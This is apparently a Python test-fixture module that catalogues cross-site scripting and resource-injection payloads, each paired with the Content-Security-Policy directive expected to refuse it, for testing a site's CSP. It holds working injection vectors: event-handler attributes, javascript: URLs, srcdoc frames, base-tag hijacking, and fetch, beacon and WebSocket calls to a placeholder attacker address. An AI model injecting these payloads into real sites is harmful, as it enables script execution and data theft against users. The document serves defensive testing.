"""What an attacker who could write into a page would write, and which directive refuses it.

`@@` is the attacker's address with the payload's name; `fired` is what a script of theirs sets.
"""

from typing import NamedTuple


class Payload(NamedTuple):
    name: str
    html: str
    directive: str
    """Of the Content-Security-Policy, by the name that browsers report."""
    act: str = ""
    """What happens on the page then; without any HTML, what a script of the site itself does."""
    in_head: bool = False
    sign: str = "window.fired"
    """By what a page shows that it took effect, where the attacker is not asked for anything."""

    @property
    def asks(self) -> bool:
        """Whether the attacker hears of it."""
        return "@@" in self.html + self.act and self.sign == "window.fired"

    def written(self, attacker: str) -> str:
        """The markup as it stands in the page."""
        html = self.html or f'<script src="/stolen/{self.name}.js"></script>'
        return html.replace("@@", f"{attacker}/{self.name}")

    def stolen(self, attacker: str) -> str:
        """What the site's own script does, if it is that which was taken over."""
        return "" if self.html else self.act.replace("@@", f"{attacker}/{self.name}")


SET = "window.fired=true;try{parent.fired=true}catch(e){}"

INLINE = [
    Payload("inline-script", f"<script>{SET}</script>", "script-src-elem"),
    Payload("module", f'<script type="module">{SET}</script>', "script-src-elem"),
    Payload("img-onerror", f'<img src="/nothing.jpg" alt="" onerror="{SET}">', "script-src-attr"),
    Payload("svg-onload", f'<svg onload="{SET}"></svg>', "script-src-attr"),
    Payload("details-ontoggle", f'<details open ontoggle="{SET}"><summary>x</summary></details>', "script-src-attr"),
    Payload("onclick", f'<button id="p" onclick="{SET}">x</button>', "script-src-attr", "p.click()"),
    Payload(
        "autofocus", f'<input autofocus onfocus="{SET}">', "script-src-attr", "document.querySelector('input').focus()"
    ),
    Payload(
        "animation", f'<svg><animate onbegin="{SET}" attributeName="x" dur="1s"></animate></svg>', "script-src-attr"
    ),
    Payload("javascript-link", f'<a id="p" href="javascript:{SET}">x</a>', "script-src-elem", "p.click()"),
    Payload(
        "svg-link",
        f'<svg><a id="p" href="javascript:{SET}"><text>x</text></a></svg>',
        "script-src-elem",
        "p.dispatchEvent(new MouseEvent('click'))",
    ),
    Payload("javascript-frame", f'<iframe src="javascript:{SET}"></iframe>', "script-src-elem"),
    Payload("srcdoc", f"<iframe srcdoc='<script>{SET}</script>'></iframe>", "script-src-elem"),
    Payload(
        "import-map",
        '<script type="importmap">{"imports":{"a":"@@.js"}}</script><script type="module">import "a"</script>',
        "script-src-elem",
        in_head=True,
    ),
    Payload(
        "speculation-rules",
        '<script type="speculationrules">{"prefetch":[{"source":"list","urls":["@@.html"]}]}</script>',
        "script-src-elem",
    ),
    Payload("svg-script", f"<svg><script>{SET}</script></svg>", "script-src-elem"),
    Payload(
        "foreign-object", f"<svg><foreignObject><img src='/x' onerror='{SET}'></foreignObject></svg>", "script-src-attr"
    ),
    Payload(
        "shadow-root",
        f'<div><template shadowrootmode="open"><script>{SET}</script></template></div>',
        "script-src-elem",
    ),
    Payload(
        "form-action-script",
        f'<form id="p" action="javascript:{SET}"><button>x</button></form>',
        "form-action",
        "p.submit()",
    ),
    Payload(
        "set-href",
        f'<svg><a id="p"><set attributeName="href" to="javascript:{SET}"></set></a></svg>'
        f'<a id="q" href="javascript:{SET}">x</a>',
        "script-src-elem",
        "q.click()",
    ),
]
"""Scripts that stand in the page itself."""

LOADED = [
    Payload("script", '<script src="@@.js"></script>', "script-src-elem"),
    Payload("async-script", '<script async src="@@.js"></script>', "script-src-elem"),
    Payload("data-script", f'<script src="data:text/javascript,{SET}"></script>', "script-src-elem"),
    Payload("module-from-outside", '<script type="module" src="@@.js"></script>', "script-src-elem"),
    Payload("svg-script-href", '<svg><script href="@@.js"></script></svg>', "script-src-elem"),
    Payload("module-preload", '<link rel="modulepreload" href="@@.js">', "script-src-elem", in_head=True),
    Payload("preload", '<link rel="preload" as="script" href="@@.js">', "script-src-elem", in_head=True),
    Payload("preload-font", '<link rel="preload" as="font" crossorigin href="@@.woff2">', "font-src", in_head=True),
    Payload("prefetch", '<link rel="prefetch" href="@@.html">', "default-src", in_head=True),
    Payload("style-element", "<style>@import '@@.css'; body { background: red }</style>", "style-src-elem"),
    Payload("style-attribute", "<p style=\"background: url('@@.gif')\">x</p>", "style-src-attr"),
    Payload("style-sheet", '<link rel="stylesheet" href="@@.css">', "style-src-elem", in_head=True),
    Payload(
        "data-style-sheet",
        '<link rel="stylesheet" href="data:text/css,body{background:red}">',
        "style-src-elem",
        sign="getComputedStyle(document.body).backgroundColor == 'rgb(255, 0, 0)'",
    ),
    Payload(
        "font",
        "<style>@font-face { font-family: f; src: url('@@.woff2') } p { font-family: f }</style>",
        "style-src-elem",
    ),
    Payload("image", '<img src="@@.gif" alt="">', "img-src"),
    Payload("image-set", '<img srcset="@@.gif 1x" src="/nothing.jpg" alt="">', "img-src"),
    Payload("picture", '<picture><source srcset="@@.gif"><img src="/nothing.jpg" alt=""></picture>', "img-src"),
    Payload(
        "data-image",
        '<img id="p" src="data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7" alt="">',
        "img-src",
        sign="p.naturalWidth",
    ),
    Payload("svg-image", '<svg><image href="@@.gif" width="1" height="1"></image></svg>', "img-src"),
    Payload("icon", '<link rel="icon" href="@@.gif">', "img-src", in_head=True),
    Payload("input-image", '<input type="image" src="@@.gif" alt="x">', "img-src"),
    Payload("poster", '<video poster="@@.gif"></video>', "img-src"),
    Payload("video", '<video src="@@.mp4" autoplay muted></video>', "media-src"),
    Payload("audio", '<audio src="@@.mp3" preload="auto"></audio>', "media-src"),
    Payload("frame", '<iframe src="@@.html"></iframe>', "frame-src"),
    Payload("own-frame", '<iframe id="p" src="/about/"></iframe>', "frame-src", sign="p.contentDocument?.title"),
    Payload("data-frame", '<iframe src="data:text/html,<img src=@@.gif>"></iframe>', "frame-src"),
    Payload("object", '<object data="@@.html" type="text/html"></object>', "object-src"),
    Payload("embed", '<embed src="@@.html" type="text/html">', "object-src"),
    Payload(
        "base", '<base href="@@/">', "base-uri", in_head=True, sign="!document.baseURI.startsWith(location.origin)"
    ),
    Payload("form", '<form id="p" action="@@.html" method="post"><input name="a"></form>', "form-action", "p.submit()"),
    Payload(
        "form-button",
        '<form><button id="p" formaction="@@.html">x</button></form>',
        "form-action",
        "p.click()",
    ),
    Payload("ping", '<a id="p" href="#top" ping="@@.html">x</a>', "connect-src", "p.click()"),
]
"""What is fetched from elsewhere, or sent there."""

STOLEN = [
    Payload("fetch", "", "connect-src", "fetch('@@.html', {mode: 'no-cors'}).catch(() => 0)"),
    Payload("xhr", "", "connect-src", "(x => { x.open('GET', '@@.html'); x.send() })(new XMLHttpRequest())"),
    Payload("beacon", "", "connect-src", "navigator.sendBeacon('@@.html', 'a')"),
    Payload("websocket", "", "connect-src", "new WebSocket('@@.ws'.replace('http', 'ws'))"),
    Payload("event-source", "", "connect-src", "new EventSource('@@.html')"),
    Payload("eval", "", "require-trusted-types-for", f"try {{ eval('{SET}') }} catch (refused) {{}}"),
    Payload("timeout", "", "require-trusted-types-for", f"try {{ setTimeout('{SET}') }} catch (refused) {{}}"),
    Payload(
        "inner-html",
        "",
        "require-trusted-types-for",
        f"try {{ document.body.innerHTML = '<img src=/x onerror={SET.split(';')[0]}>' }} catch (refused) {{}}",
    ),
    Payload(
        "document-write",
        "",
        "require-trusted-types-for",
        "try { document.write('<img src=@@.gif>') } catch (refused) {}",
    ),
    Payload(
        "script-address",
        "",
        "require-trusted-types-for",
        "try { (s => { s.src = '@@.js'; document.head.append(s) })(document.createElement('script')) } catch (e) {}",
    ),
    Payload(
        "worker",
        "",
        "require-trusted-types-for",
        "try { new Worker(URL.createObjectURL(new Blob([\"fetch('@@.html')\"]))) } catch (refused) {}",
    ),
    Payload(
        "parse",
        "",
        "require-trusted-types-for",
        "try { document.body.append(document.createRange().createContextualFragment('<iframe src=@@.html>')) }"
        " catch (refused) {}",
    ),
    Payload(
        "created-image",
        "",
        "img-src",
        "(window.picture = new Image()).src = '@@.gif'",
    ),
]
"""What a script of the site would do for an attacker who had got hold of it."""

PAYLOADS = [*INLINE, *LOADED, *STOLEN]
